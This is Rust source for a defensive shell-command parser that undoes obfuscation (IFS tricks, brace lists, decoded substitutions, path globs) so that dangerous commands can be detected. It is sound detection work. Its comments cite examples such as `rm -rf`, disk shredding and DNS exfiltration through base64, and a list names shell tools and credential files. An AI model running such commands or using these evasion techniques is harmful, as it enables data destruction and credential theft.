        while texts.get(k).is_some_and(|w| {
            matches!(
                w.as_str(),
                "do" | "then" | "else" | "elif" | "if" | "while" | "until" | "!"
            )
        }) {
            k += 1;
        }
        // Leading assignments: remembered for later commands. An `IFS`
        // set for one command only (`while IFS=- read a b`) is not kept:
        // splitting every later word on it would misread them.
        let first = k;
        while k < texts.len() {
            match assignment(&texts[k]) {
                Some((n, v, appends)) => {
                    let prefix_only =
                        n == "IFS" && texts[first..].iter().any(|t| assignment(t).is_none());
                    if !prefix_only {
                        self.assign(n, v, appends);
                    }
                    k += 1;
                }
                None => break,
            }
        }
        let mut rest: Vec<String> = texts.split_off(k);
        // `for v in a b c`: each later `$v` stands for every item (the
        // body runs once per item), so `rm -rf "$v"` is judged on all.
        // Items from a substitution (`$(seq 1 254)`) are not known: the
        // variable stays a variable (a sweep, to the checks that look).
        if rest.len() >= 3 && rest[0] == "for" && rest[2] == "in" && self.vars.len() < 256 {
            let items: Vec<&str> = rest[3..]
                .iter()
                .map(|i| i.as_str())
                .take(MAX_FOR_ITEMS)
                .collect();
            if !items.is_empty()
                && items
                    .iter()
                    .all(|i| !i.contains(['$', '`']) && !i.is_empty())
            {
                let list = items.join(&LIST_SEP.to_string());
                self.vars.insert(rest[1].clone(), list);
            } else if items.len() == 1 && encoded_stream(items[0]) {
                // Chunks of an encoded stream (`for l in $(base64 -w 60 f)`):
                // each item is a piece of that output, so `$l` stands for it
                // (`dig $l.zone` reads as `dig $(base64 … f).zone`). Not
                // other substitutions, whose items are names (`$(seq …)`).
                self.vars.insert(rest[1].clone(), items[0].to_string());
            }
        }
        if rest.len() == 1 && matches!(rest[0].as_str(), "done" | "fi" | "esac") {
            rest.clear();
        }
        // `export A=b`, `declare`, `local`, `readonly` are assignments too.
        if matches!(
            rest.first().map(|s| s.as_str()),
            Some("export" | "declare" | "local" | "readonly" | "typeset")
        ) {
            for t in &rest[1..] {
                if let Some((n, v, appends)) = assignment(t) {
                    self.assign(n, v, appends);
                }
            }
        }
        // `printf -v name FORMAT ARGS`: the formatted text goes into name.
        if rest.len() >= 4 && rest[0] == "printf" && rest[1] == "-v" {
            let v = printf(&rest[3..]);
            if v.len() <= MAX_VAR_BYTES {
                self.assign(rest[2].clone(), v, false);
            }
        }
        let mut sudo = false;
        let mut stripped_xargs = false;
        let mut xargs_slot: Option<String> = None;
        // Strip wrappers (and `sudo`, remembered).
        while let Some(first) = rest.first() {
            let base = basename(first);
            // GNU parallel runs its template once per input (`parallel
            // 'shred -z {}' ::: /dev/sd?`, `… | parallel rm -rf {}`): read
            // as `sh -c` of the template with the inputs in its slot.
            if base == "parallel" {
                match parallel_command(&rest[1..]) {
                    Some(script) => {
                        stripped_xargs |= !rest.iter().any(|w| w.starts_with(":::"));
                        rest = vec!["sh".to_string(), "-c".to_string(), script];
                    }
                    None => break,
                }
                continue;
            }
            let Some(with_value) = wrapper_value_options(&base) else {
                break;
            };
            if base == "exec" && rest.len() == 1 {
                break;
            }
            let mut j = 1;
            let mut root_shell = false;
            while j < rest.len() {
                let a = &rest[j];
                if a == "--" {
                    j += 1;
                    break;
                }
                if a.starts_with('-') {
                    if (base == "sudo" || base == "doas")
                        && (a == "-i" || a == "-s" || a == "--login" || a == "--shell")
                    {
                        root_shell = true;
                    }
                    // `env -S 'cmd args'` splits the string into the command.
                    if base == "env" && (a == "-S" || a == "--split-string") {
                        if let Some(mut cmdline) = rest.get(j + 1).cloned() {
                            for more in rest.iter().skip(j + 2) {
                                cmdline.push(' ');
                                cmdline.push_str(more);
                            }
                            rest = vec!["sh".to_string(), "-c".to_string(), cmdline];
                            j = rest.len();
                            break;
                        }
                    }
                    if base == "sudo" && (a == "-e" || a == "--edit") {
                        // `sudo -e FILE` is sudoedit: FILE is what it
                        // opens as root, not a command.
                        rest[j] = "sudoedit".to_string();
                        break;
                    }
                    // xargs' replace-string: each input line lands where
                    // it stands, so it reads as a glob over the input.
                    if base == "xargs" {
                        if a == "-I" {
                            xargs_slot = rest.get(j + 1).cloned();
                        } else if let Some(v) = a.strip_prefix("-I").filter(|v| !v.is_empty()) {
                            xargs_slot = Some(v.to_string());
                        } else if a == "-i" || a.starts_with("--replace") {
                            xargs_slot = Some("{}".to_string());
                        }
                    }
                    j += if with_value.contains(&a.as_str()) {
                        2
                    } else {
                        1
                    };
                    continue;
                }
                if base == "env" && assignment(a).is_some() {
                    j += 1;
                    continue;
                }
                if (base == "timeout" || base == "nice" && a.parse::<i32>().is_ok())
                    && a.chars().next().is_some_and(|c| c.is_ascii_digit())
                {
                    j += 1;
                    continue;
                }
                break;
            }
            if base == "sudo" || base == "doas" {
                sudo = true;
                if j >= rest.len() {
                    // `sudo -i`, `sudo -s`: a root shell with no command.
                    // Other flags alone (`sudo -l`, `sudo -l -U bob`,
                    // `sudo -v`) stay visible to the patterns.
                    if root_shell {
                        rest = vec!["sudo".to_string(), "-i".to_string()];
                    } else {
                        rest[0] = "sudo".to_string();
                    }
                    sudo = false;
                    break;
                }
            }
            if j >= rest.len() {
                break;
            }
            stripped_xargs |= base == "xargs";
            rest.drain(..j);
        }
        // An assignment alone (`PW=$(zenity --password)`) still runs its
        // substitutions.
        if rest.is_empty() && redirs.is_empty() && stdin_text.is_none() && substitutions.is_empty()
        {
            return None;
        }
        if stripped_xargs {
            if let Some(slot) = xargs_slot.filter(|x| !x.is_empty()) {
                for w in rest.iter_mut() {
                    if w.contains(slot.as_str()) {
                        *w = w.replace(slot.as_str(), "*");
                    }
                }
            }
            if let Some(t) = &stdin_text {
                rest.extend(t.split_whitespace().take(64).map(str::to_string));
            }
        }
        // Globs standing for a well-known path (`/???/b??h`, `/e??/sh??ow`,
        // `~/.s?h/id_*`): the shell expands them to that path.
        for w in rest.iter_mut() {
            if let Some(g) = resolve_glob(w) {
                *w = g;
            }
        }
        for r in redirs.iter_mut() {
            if let Some(g) = resolve_glob(&r.target) {
                r.target = g;
            }
        }
        let (cmd_path, mut args) = if rest.is_empty() {
            (String::new(), Vec::new())
        } else {
            let mut it = rest.into_iter();
            let c = it.next().unwrap_or_default();
            (c, it.collect::<Vec<String>>())
        };
        // A shell named through an unknown variable is still a shell.
        let mut cmd = basename(&cmd_path);
        // Literals split and joined again in a program's code
        // (`open('/etc/sh'+'adow')`, awk's `"r" "m -rf /"`) are read joined.
        if is_interpreter(&cmd) || is_awk(&cmd) {
            for a in args.iter_mut() {
                if let Some(f) = fold_concatenations(a) {
                    *a = f;
                }
                // The home directory joined to a literal (`"rm -rf "
                // ENVIRON["HOME"]`) is read as `~` joined, beside the code.
                if let Some(h) = home_folded(a) {
                    a.push('\n');
                    a.push_str(&h);
                }
                // A path or command handed to a decoder in the code
                // (`open(b64decode('fi8u…'))`) is read decoded too: the
                // decoded copy follows the code, which keeps its encoded
                // form for the checks on decoding itself.
                if let Some(d) = inline_decoded(a) {
                    a.push('\n');
                    a.push_str(&d);
                }
            }
        }
        if cmd == "$shell" || cmd_path == "${SHELL}" {
            cmd = "sh".to_string();
        }
        let mut text = String::with_capacity(64);
        if sudo {
            text.push_str("sudo ");
        }
        text.push_str(&cmd);
        for a in &args {
            text.push(' ');
            text.push_str(a);
        }
        for r in &redirs {
            text.push(' ');
            text.push_str(&r.op);
            text.push(' ');
            text.push_str(&r.target);
        }
        Some(Segment {
            sudo,
            cmd,
            cmd_path,
            args,
            redirs,
            stdin_text,
            substitutions,
            sep: Sep::Seq,
            pipeline: 0,
            text,
            xargs: stripped_xargs,
        })
    }

    fn skip_blanks(&mut self) {
        while let Some(c) = self.peek() {
            if c == b' ' || c == b'\t' || c == b'\r' {
                self.i += 1;
            } else if c == b'\\' && self.peek_at(1) == Some(b'\n') {
                self.i += 2;
            } else {
                break;
            }
        }
    }

    fn token(&mut self) -> Tok {
        self.skip_blanks();
        let Some(c) = self.peek() else {
            return Tok::End;
        };
        match c {
            b'\n' => {
                self.i += 1;
                Tok::Newline
            }
            b'#' => {
                while self.peek().is_some_and(|c| c != b'\n') {
                    self.i += 1;
                }
                self.token()
            }
            b';' => {
                self.i += 1;
                if self.peek() == Some(b';') {
                    self.i += 1;
                }
                Tok::Op(";".into())
            }
            b'&' if self.peek_at(1) == Some(b'&') => {
                self.i += 2;
                Tok::Op("&&".into())
            }
            b'&' if self.peek_at(1) == Some(b'>') => {
                self.i += 2;
                if self.peek() == Some(b'>') {
                    self.i += 1;
                    return Tok::Redir("&>>".into());
                }
                Tok::Redir("&>".into())
            }
            b'&' => {
                self.i += 1;
                Tok::Op("&".into())
            }
            b'|' if self.peek_at(1) == Some(b'|') => {
                self.i += 2;
                Tok::Op("||".into())
            }
            b'|' => {
                self.i += 1;
                if self.peek() == Some(b'&') {
                    self.i += 1;
                }
                Tok::Op("|".into())
            }
            b'(' | b')' => {
                self.i += 1;
                if c == b'(' && self.peek() == Some(b'(') {
                    // `(( arithmetic ))`: skip it.
                    self.skip_balanced(b'(', b')');
                }
                Tok::Op(";".into())
            }
            b'<' if self.peek_at(1) == Some(b'(') => self.word(),
            b'>' if self.peek_at(1) == Some(b'(') => self.word(),
            b'<' | b'>' => self.redir_op(String::new()),
            _ => {
                // `{` and `}` alone are grouping, not words.
                if (c == b'{' || c == b'}')
                    && self
                        .peek_at(1)
                        .is_none_or(|n| n == b' ' || n == b'\n' || n == b';')
                {
                    self.i += 1;
                    return Tok::Op(";".into());
                }
                // `2>`, `10<&`: an fd number glued to a redirection.
                let st = self.i;
                let mut j = st;
                while j < self.s.len() && self.s[j].is_ascii_digit() {
                    j += 1;
                }
                if j > st && j < self.s.len() && (self.s[j] == b'<' || self.s[j] == b'>') {
                    let fd = self.src[st..j].to_string();
                    self.i = j;
                    return self.redir_op(fd);
                }
                self.word()
            }
        }
    }

    fn redir_op(&mut self, fd: String) -> Tok {
        let mut op = fd;
        let c = self.s[self.i];
        op.push(c as char);
        self.i += 1;
        while let Some(n) = self.peek() {
            let ok = match (c, n) {
                (b'<', b'<') => op.matches('<').count() < 3,
                (b'<', b'-') => op.ends_with("<<"),
                (b'>', b'>') => !op.ends_with(">>"),
                (_, b'&') | (b'<', b'>') | (b'>', b'|') => true,
                _ => false,
            };
            if !ok {
                break;
            }
            op.push(n as char);
            self.i += 1;
            if n == b'&' || n == b'|' || n == b'-' {
                break;
            }
        }
        Tok::Redir(op)
    }

    fn skip_balanced(&mut self, open: u8, close: u8) -> String {
        // Called with self.i just past an `open`; returns the inner text.
        let st = self.i;
        let mut depth = 1;
        while let Some(c) = self.peek() {
            match c {
                b'\\' => self.i += 1,
                b'\'' => {
                    self.i += 1;
                    while self.peek().is_some_and(|c| c != b'\'') {
                        self.i += 1;
                    }
                }
                b'"' => {
                    self.i += 1;
                    while let Some(c) = self.peek() {
                        if c == b'\\' {
                            self.i += 1;
                        } else if c == b'"' {
                            break;
                        }
                        self.i += 1;
                    }
                }
                _ if c == open => depth += 1,
                _ if c == close => {
                    depth -= 1;
                    if depth == 0 {
                        let inner = self.src.get(st..self.i).unwrap_or("").to_string();
                        self.i += 1;
                        return inner;
                    }
                }
                _ => {}
            }
            self.i += 1;
        }
        self.i = self.s.len();
        self.src.get(st..).unwrap_or("").to_string()
    }

    fn word(&mut self) -> Tok {
        let mut w = Word::default();
        let mut last_quote_kind = 0u8; // 0 none, 1 plain, 2 quoted
        let mut mark = |w: &mut Word, kind: u8| {
            if w.started && last_quote_kind != 0 && last_quote_kind != kind {
                w.glued_quotes = true;
            }
            last_quote_kind = kind;
            w.started = true;
        };
        while let Some(c) = self.peek() {
            match c {
                b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b')' => break,
                b'(' if w.text.ends_with('=') && !w.quoted && assignment(&w.text).is_some() => {
                    // `name=(a b c)`: an array, kept as its items joined by
                    // spaces (`${name[@]}` gives them back as words).
                    self.i += 1;
                    let inner = self.skip_balanced(b'(', b')');
                    let items: Vec<String> = split_unquoted(&inner, |b| b.is_ascii_whitespace())
                        .unwrap_or_default()
                        .into_iter()
                        .filter(|i| !i.is_empty())
                        .map(unquote)
                        .collect();
                    mark(&mut w, 2);
                    w.quoted = true;
                    w.text.push_str(&items.join(" "));
                }
                b'(' => {
                    // `name()` function definition: stop the word.
                    break;
                }
                b'<' | b'>' if self.peek_at(1) == Some(b'(') => {
                    // Process substitution.
                    self.i += 2;
                    let inner = self.skip_balanced(b'(', b')');
                    self.substitutions.push(inner.clone());
                    mark(&mut w, 1);
                    w.text.push_str("<(");
                    w.text.push_str(&inner);
                    w.text.push(')');
                }
                b'<' | b'>' => break,
                b'\\' => {
                    self.i += 1;
                    match self.peek() {
                        Some(b'\n') => self.i += 1,
                        Some(_) => {
                            let ch = self.next_char();
                            mark(&mut w, 2);
                            w.quoted = true;
                            w.text.push(ch);
                        }
                        None => {}
                    }
                }
                b'\'' => {
                    self.i += 1;
                    let st = self.i;
                    while self.peek().is_some_and(|c| c != b'\'') {
                        self.i += 1;
                    }
                    let lit = &self.src[st..self.i];
                    self.i = (self.i + 1).min(self.s.len());
                    if lit.is_empty() && w.started {
                        w.glued_quotes = true;
                    }
                    mark(&mut w, 2);
                    w.quoted = true;
                    w.text.push_str(lit);
                }
                b'"' => {
                    self.i += 1;
                    let before = w.text.len();
                    self.double_quoted(&mut w);
                    if w.text.len() == before && w.started {
                        w.glued_quotes = true;
                    }
                    mark(&mut w, 2);
                    w.quoted = true;
                }
                b'`' => {
                    self.i += 1;
                    let st = self.i;
                    while self.peek().is_some_and(|c| c != b'`') {
                        if self.peek() == Some(b'\\') {
                            self.i += 1;
                        }
                        self.i += 1;
                    }
                    let inner = self
                        .src
                        .get(st..self.i.min(self.s.len()))
                        .unwrap_or("")
                        .to_string();
                    self.i = (self.i + 1).min(self.s.len());
                    mark(&mut w, 1);
                    self.push_substitution(&mut w, inner);
                }
                b'$' => {
                    mark(&mut w, 1);
                    self.dollar(&mut w, false);
                }
                b'{' => {
                    mark(&mut w, 1);
                    let st = self.i;
                    self.i += 1;
                    let inner = self.skip_balanced(b'{', b'}');
                    if is_brace_list(&inner) {
                        w.brace = true;
                    }
                    w.text.push_str(&self.src[st..self.i]);
                }
                _ => {
                    mark(&mut w, 1);
                    let ch = self.next_char();
                    w.text.push(ch);
                }
            }
        }
        if !w.started {
            // A lone operator char we do not handle: skip it.
            self.i += 1;
            return self.token();
        }
        Tok::Word(w)
    }

    fn next_char(&mut self) -> char {
        let ch = self.src[self.i..].chars().next().unwrap_or('\u{fffd}');
        self.i += ch.len_utf8().max(1);
        ch
    }

    fn double_quoted(&mut self, w: &mut Word) {
        while let Some(c) = self.peek() {
            match c {
                b'"' => {
                    self.i += 1;
                    return;
                }
                b'\\' => {
                    self.i += 1;
                    match self.peek() {
                        Some(n @ (b'$' | b'`' | b'"' | b'\\')) => {
                            w.text.push(n as char);
                            self.i += 1;
                        }
                        Some(b'\n') => self.i += 1,
                        _ => w.text.push('\\'),
                    }
                }
                b'$' => self.dollar(w, true),
                b'`' => {
                    self.i += 1;
                    let st = self.i;
                    while self.peek().is_some_and(|c| c != b'`') {
                        self.i += 1;
                    }
                    let inner = self.src[st..self.i].to_string();
                    self.i = (self.i + 1).min(self.s.len());
                    self.push_substitution(w, inner);
                }
                _ => {
                    let ch = self.next_char();
                    w.text.push(ch);
                }
            }
        }
    }

    /// `$NAME`, `${...}`, `$(...)`, `$((...))`, `$'...'`.
    fn dollar(&mut self, w: &mut Word, in_dquote: bool) {
        self.i += 1; // `$`
        match self.peek() {
            Some(b'(') if self.peek_at(1) == Some(b'(') => {
                self.i += 2;
                let inner = self.skip_balanced(b'(', b')');
                if self.peek() == Some(b')') {
                    self.i += 1;
                }
                w.text.push_str("$((");
                w.text.push_str(&inner);
                w.text.push_str("))");
            }
            Some(b'(') => {
                self.i += 1;
                let inner = self.skip_balanced(b'(', b')');
                self.push_substitution(w, inner);
            }
            Some(b'\'') if !in_dquote => {
                self.i += 1;
                let st = self.i;
                while let Some(c) = self.peek() {
                    if c == b'\\' {
                        self.i += 2;
                        continue;
                    }
                    if c == b'\'' {
                        break;
                    }
                    self.i += 1;
                }
                let end = self.i.min(self.s.len());
                let raw = &self.src[st..end];
                self.i = (end + 1).min(self.s.len());
                let dec = crate::coach::text::unescape_c(raw);
                if dec != raw {
                    self.obfuscated = true;
                }
                w.quoted = true;
                w.text.push_str(&dec);
            }
            Some(b'{') => {
                self.i += 1;
                let inner = self.skip_balanced(b'{', b'}');
                let v = self.param_expand(&inner);
                // `"${arr[@]}"` is one word per item, quoted or not.
                let quoted = in_dquote && !inner.ends_with("[@]");
                self.push_expansion(w, &v, quoted, &inner);
            }
            Some(c) if c.is_ascii_alphabetic() || c == b'_' => {
                let st = self.i;
                while self
                    .peek()
                    .is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_')
                {
                    self.i += 1;
                }
                let name = self.src[st..self.i].to_string();
                let v = match self.vars.get(&name) {
                    Some(v) => v.clone(),
                    None if name == "IFS" => " ".to_string(),
                    None => format!("${name}"),
                };
                self.push_expansion(w, &v, in_dquote, &name);
            }
            Some(c) if c.is_ascii_digit() || b"@*#?$!-".contains(&c) => {
                self.i += 1;
                w.text.push('$');
                w.text.push(c as char);
            }
            _ => w.text.push('$'),
        }
    }

    /// `$(...)`/backticks: parsed later as a nested script; when it only
    /// prints a literal (`$(echo rm)`, `$(printf '\x72\x6d')`, through
    /// `base64 -d` or `rev`), its output is known and takes its place.
    fn push_substitution(&mut self, w: &mut Word, inner: String) {
        match static_output(&inner, self.depth) {
            Some(v) => {
                self.obfuscated = true;
                w.text.push_str(&v);
            }
            None => {
                w.text.push_str("$(");
                w.text.push_str(&inner);
                w.text.push(')');
            }
        }
        self.substitutions.push(inner);
    }

    fn push_expansion(&mut self, w: &mut Word, v: &str, in_dquote: bool, name: &str) {
        if v.contains(LIST_SEP) {
            // The text keeps `$name` (a redirection target stays a
            // variable); the word's items are made from it when it ends.
            let start = w.text.len();
            w.text.push('$');
            w.text.push_str(name);
            if w.list.is_none() {
                let items = v.split(LIST_SEP).map(str::to_string).collect();
                w.list = Some((start, w.text.len(), items));
            }
            return;
        }
        if name == "IFS" || name.starts_with("IFS") {
            self.obfuscated = true;
            if !in_dquote {
                w.ifs_split = true;
            }
        }
        // `IFS=,` set earlier: an unquoted expansion splits at its commas
        // (`c=rm,-rf,$HOME; IFS=,; $c` runs `rm -rf $HOME`).
        let custom = self
            .vars
            .get("IFS")
            .filter(|ifs| !ifs.is_empty() && !ifs.bytes().all(|b| b.is_ascii_whitespace()));
        if let Some(ifs) = custom.filter(|ifs| !in_dquote && v.contains(|c| ifs.contains(c))) {
            self.obfuscated = true;
            w.ifs_split = true;
            let split: String = v
                .chars()
                .map(|c| if ifs.contains(c) { ' ' } else { c })
                .collect();
            w.text.push_str(&split);
            return;
        }
        // Only a literal value: a substitution's text (`$(pgrep -n sshd)`)
        // stands for its output, which is not these words. A variable left
        // in the value (`D="find $HOME -delete"; $D`) is still one word.
        if !in_dquote
            && custom.is_none()
            && v.contains([' ', '\t'])
            && !v.contains("$(")
            && !v.contains('`')
        {
            w.word_split = true;
            let split: String = v.chars().map(|c| if c == '\t' { ' ' } else { c }).collect();
            w.text.push_str(&split);
            return;
        }
        w.text.push_str(v);
    }

    fn param_expand(&self, inner: &str) -> String {
        // `${NAME}`, `${NAME:-default}`, `${NAME-default}`, `${NAME:?msg}`,
        // `${NAME:=default}`; anything fancier keeps its text.
        let name_end = inner
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(inner.len());
        let name = &inner[..name_end];
        let rest = &inner[name_end..];
        let known = self
            .vars
            .get(name)
            .cloned()
            .or_else(|| (name == "IFS").then(|| " ".to_string()));
        if name.is_empty() {
            // `${!name}`: the variable named by name's value.
            if let Some(r) = inner.strip_prefix('!') {
                if let Some(target) = self.vars.get(r) {
                    return self
                        .vars
                        .get(target)
                        .cloned()
                        .unwrap_or_else(|| format!("${target}"));
                }
            }
            return format!("${{{inner}}}");
        }
        if let Some(v) = known {
            return value_op(&v, rest).unwrap_or(v);
        }
        // Letters cut from the environment's paths (`${PATH:0:1}` is `/`):
        // PATH and SHELL as a stock system sets them, and the first
        // character of the directories, all absolute.
        let stock = match name {
            "PATH" => "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
            "SHELL" => "/bin/bash",
            "HOME" | "PWD" | "OLDPWD" | "TMPDIR" if rest == ":0:1" => "/",
            _ => "",
        };
        if !stock.is_empty() && rest.starts_with(':') {
            if let Some(v) = value_op(stock, rest) {
                return v;
            }
        }
        // `${NAME:?}`: the shell stops if NAME is unset; kept as written,
        // so a guarded `rm -rf "${DIR:?}"/*` reads as guarded.
        if rest.starts_with(":?") || rest.starts_with('?') {
            return format!("${{{inner}}}");
        }
        for op in [":+", "+"] {
            if let Some(alt) = rest.strip_prefix(op) {
                return alt.trim_matches(|c| c == '"' || c == '\'').to_string();
            }
        }
        for op in [":-", "-", ":=", "="] {
            if let Some(d) = rest.strip_prefix(op) {
                return d.trim_matches(|c| c == '"' || c == '\'').to_string();
            }
        }
        format!("${name}")
    }
}

/// What an expansion's operator makes of a known value: `:off[:len]`
/// substrings, `/pat/rep` and `//pat/rep` replacements, `#`/`%` removal
/// of a literal prefix or suffix, `[n]`, `[@]` and `[*]` of an array (its
/// items joined by spaces). None for what is not modelled (globs in a
/// pattern), so the whole value stands.
fn value_op(v: &str, op: &str) -> Option<String> {
    if op.is_empty() || op == "[@]" || op == "[*]" {
        return None;
    }
    if let Some(ix) = op.strip_prefix('[').and_then(|r| r.strip_suffix(']')) {
        let n: usize = ix.trim().parse().ok()?;
        return v.split(' ').nth(n).map(str::to_string);
    }
    let literal = |p: &str| !p.is_empty() && !p.contains(['*', '?', '[']);
    if let Some(r) = op.strip_prefix(':') {
        let (off, len) = match r.split_once(':') {
            Some((o, l)) => (o, Some(l)),
            None => (r, None),
        };
        let chars: Vec<char> = v.chars().collect();
        let off: i64 = off.trim().parse().ok()?;
        let start = if off < 0 {
            chars.len().saturating_sub(off.unsigned_abs() as usize)
        } else {
            (off as usize).min(chars.len())
        };
        let end = match len {
            Some(l) => {
                let l: i64 = l.trim().parse().ok()?;
                if l < 0 {
                    chars
                        .len()
                        .saturating_sub(l.unsigned_abs() as usize)
                        .max(start)
                } else {
                    (start + l as usize).min(chars.len())
                }
            }
            None => chars.len(),
        };
        return Some(chars[start..end].iter().collect());
    }
    if let Some(r) = op.strip_prefix('/') {
        let (all, r) = match r.strip_prefix('/') {
            Some(r) => (true, r),
            None => (false, r),
        };
        let (pat, rep) = r.split_once('/').unwrap_or((r, ""));
        if !literal(pat) {
            return None;
        }
        return Some(if all {
            v.replace(pat, rep)
        } else {
            v.replacen(pat, rep, 1)
        });
    }
    for (op_s, prefix) in [("##", true), ("#", true), ("%%", false), ("%", false)] {
        if let Some(pat) = op.strip_prefix(op_s) {
            if !literal(pat) {
                return None;
            }
            let cut = if prefix {
                v.strip_prefix(pat)
            } else {
                v.strip_suffix(pat)
            };
            return Some(cut.unwrap_or(v).to_string());
        }
    }
    None
}

/// What a substitution prints when it is only a literal run through
/// decoders; `None` when it runs anything else. Parsed one level below the
/// script it sits in: from the top each time, nested `$(echo $(echo ...`
/// cost exponential work (found by fuzz/coach).
fn static_output(inner: &str, depth: usize) -> Option<String> {
    if depth >= MAX_DEPTH || inner.len() > 4096 || !(inner.has("echo") || inner.has("printf")) {
        return None;
    }
    let mut script = Script::default();
    let mut vars = HashMap::new();
    parse_into(inner, depth + 1, &mut script, &mut vars);
    let segs = &script.segments;
    if segs.is_empty() || segs.len() > 4 || segs.iter().any(|s| s.pipeline != segs[0].pipeline) {
        return None;
    }
    let first = &segs[0];
    let mut text = match first.cmd.as_str() {
        "echo" | "printf" => literal_output(first)?,
        _ => return None,
    };
    for t in &segs[1..] {
        text = decode_through(t, &text)?;
    }
    let v = text.trim_end_matches('\n').to_string();
    // Output is word-split, never re-parsed: text with operators stays a
    // substitution (and counts as decoded code run as a command).
    let plain = !v.contains(['|', ';', '&', '<', '>', '`', '$', '\n']);
    (plain && !v.is_empty() && v.len() <= 1024).then_some(v)
}

/// Programs whose output is an encoding of their input (base64, hex):
/// data made to fit where only names go (a DNS label, a URL).
pub const ENCODERS: &[&str] = &["base64", "base32", "basenc", "xxd", "od", "hexdump"];

/// Whether `script` runs one of [`ENCODERS`] (a word of it, split at
/// spaces, pipes and closing parentheses).
pub fn runs_encoder(script: &str) -> bool {
    script
        .split(|c: char| c.is_ascii_whitespace() || c == '|' || c == ')')
        .any(|t| ENCODERS.contains(&t))
}

/// A whole word that is one substitution printing encoded data
/// (`$(base64 -w 50 f)`, `` `xxd -p f` ``).
fn encoded_stream(w: &str) -> bool {
    let inner = w
        .strip_prefix("$(")
        .and_then(|x| x.strip_suffix(')'))
        .or_else(|| w.strip_prefix('`').and_then(|x| x.strip_suffix('`')));
    inner.is_some_and(runs_encoder)
}

/// `NAME=value` (value already unquoted).
/// `name=value`, or `name+=value` (bash appends: `c=cu; c+=rl; $c` runs
/// curl), as (name, value, appends).
fn assignment(w: &str) -> Option<(String, String, bool)> {
    let eq = w.find('=')?;
    let (name, appends) = match w[..eq].strip_suffix('+') {
        Some(n) => (n, true),
        None => (&w[..eq], false),
    };
    if name.is_empty()
        || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        || name.chars().next().is_some_and(|c| c.is_ascii_digit())
    {
        return None;
    }
    Some((name.to_string(), w[eq + 1..].to_string(), appends))
}

/// `{rm,-rf,/}` → rm -rf /; `pre{a,b}post` → prea preb... (one level).
/// Paths a glob in a command is matched against: where shells,
/// interpreters and network clients live, the account and log files, and
/// the key and history files of a home.
const KNOWN_PATHS: &[&str] = &[
    "/bin/bash",
    "/bin/sh",
    "/bin/zsh",
    "/bin/dash",
    "/bin/nc",
    "/bin/cat",
    "/usr/bin/bash",
    "/usr/bin/sh",
    "/usr/bin/zsh",
    "/usr/bin/nc",
    "/usr/bin/ncat",
    "/usr/bin/curl",
    "/usr/bin/wget",
    "/usr/bin/python3",
    "/usr/bin/perl",
    "/usr/bin/base64",
    "/dev/tcp",
    "/dev/udp",
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/passwd",
    "/etc/sudoers",
    "/etc/sudoers.d",
    "/etc/crontab",
    "/etc/cron.d",
    "/etc/ld.so.preload",
    "/etc/pam.d",
    "/etc/ssh",
    "/var/log",
    "/root/.ssh",
    "/root/.bash_history",
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.ssh/id_ecdsa",
    "~/.ssh/authorized_keys",
    "~/.ssh",
    "~/.aws/credentials",
    "~/.aws",
    "~/.kube/config",
    "~/.docker/config.json",
    "~/.netrc",
    "~/.git-credentials",
    "~/.gnupg",
    "~/.bash_history",
    "~/.zsh_history",
    "~/.bashrc",
    "~/.zshrc",
    "~/.profile",
    "~/.config/gcloud",
];

/// One path component against a glob component: `?` any one character,
/// `*` any run, `[…]` any one character.
fn glob_component(pat: &[u8], s: &[u8]) -> bool {
    match pat.first() {
        None => s.is_empty(),
        Some(b'*') => (0..=s.len()).any(|k| glob_component(&pat[1..], &s[k..])),
        Some(b'?') => !s.is_empty() && glob_component(&pat[1..], &s[1..]),
        Some(b'[') => match pat.iter().position(|&c| c == b']') {
            Some(end) if !s.is_empty() => glob_component(&pat[end + 1..], &s[1..]),
            _ => false,
        },
        Some(&c) => s.first() == Some(&c) && glob_component(&pat[1..], &s[1..]),
    }
}

/// The well-known path a glob word starts with, with the rest of the word
/// kept (`/d?v/tcp/1.2.3.4/80` → `/dev/tcp/1.2.3.4/80`); `None` when the
/// word has no glob or none of `KNOWN_PATHS` fits.
fn resolve_glob(word: &str) -> Option<String> {
    if !(word.starts_with('/') || word.starts_with("~/"))
        || !word.contains(['?', '*', '['])
        || word.len() > 256
    {
        return None;
    }
    let parts: Vec<&str> = word.split('/').collect();
    // A home directory through a glob (`/h??e/*/.ssh/id_*`, `/U*s/bob/.aws/*`):
    // what follows the user is resolved as `~/…` would be.
    if parts.len() >= 4 && parts[0].is_empty() {
        for home in ["home", "Users"] {
            if parts[1] == "*" || !glob_component(parts[1].as_bytes(), home.as_bytes()) {
                continue;
            }
            let rest = format!("~/{}", parts[3..].join("/"));
            let resolved = resolve_glob(&rest);
            if resolved.is_none() && parts[1] == home {
                break;
            }
            let rest = resolved.unwrap_or(rest);
            return Some(format!("/{home}/{}/{}", parts[2], &rest[2..]));
        }
    }
    for known in KNOWN_PATHS {
        let kp: Vec<&str> = known.split('/').collect();
        if kp.len() > parts.len() {
            continue;
        }
        // Each `*` may try every split point: a component with many of
        // them is not worth the time (and no real path needs it).
        let fits = kp.iter().zip(&parts).all(|(k, p)| {
            p.bytes().filter(|&c| c == b'*').count() <= 3
                && glob_component(p.as_bytes(), k.as_bytes())
        });
        // A glob that only says `*` for a component proves nothing
        // (`/*/*` fits everything): at least one letter must agree.
        let telling =
            kp.iter().zip(&parts).any(|(k, p)| {
                !k.is_empty() && p != k && p.bytes().any(|c| c.is_ascii_alphanumeric())
            }) || kp.iter().zip(&parts).all(|(k, p)| k == p);
        if fits && telling && kp.iter().zip(&parts).any(|(k, p)| k != p) {
            let mut out = known.to_string();
            for p in &parts[kp.len()..] {
                out.push('/');
                out.push_str(p);
            }
            return Some(out);
        }
    }
    bin_glob(word).or_else(|| top_dir_glob(word))
}

/// A glob for a top-level directory with a literal rest (`/d?v/nvme0n1` →
/// `/dev/nvme0n1`), when exactly one fits and the glob names a letter.
fn top_dir_glob(word: &str) -> Option<String> {
    const TOP: &[&str] = &[
        "dev", "etc", "bin", "sbin", "usr", "home", "root", "var", "proc", "sys", "boot", "Users",
    ];
    let rest = word.strip_prefix('/')?;
    let (first, tail) = rest.split_once('/')?;
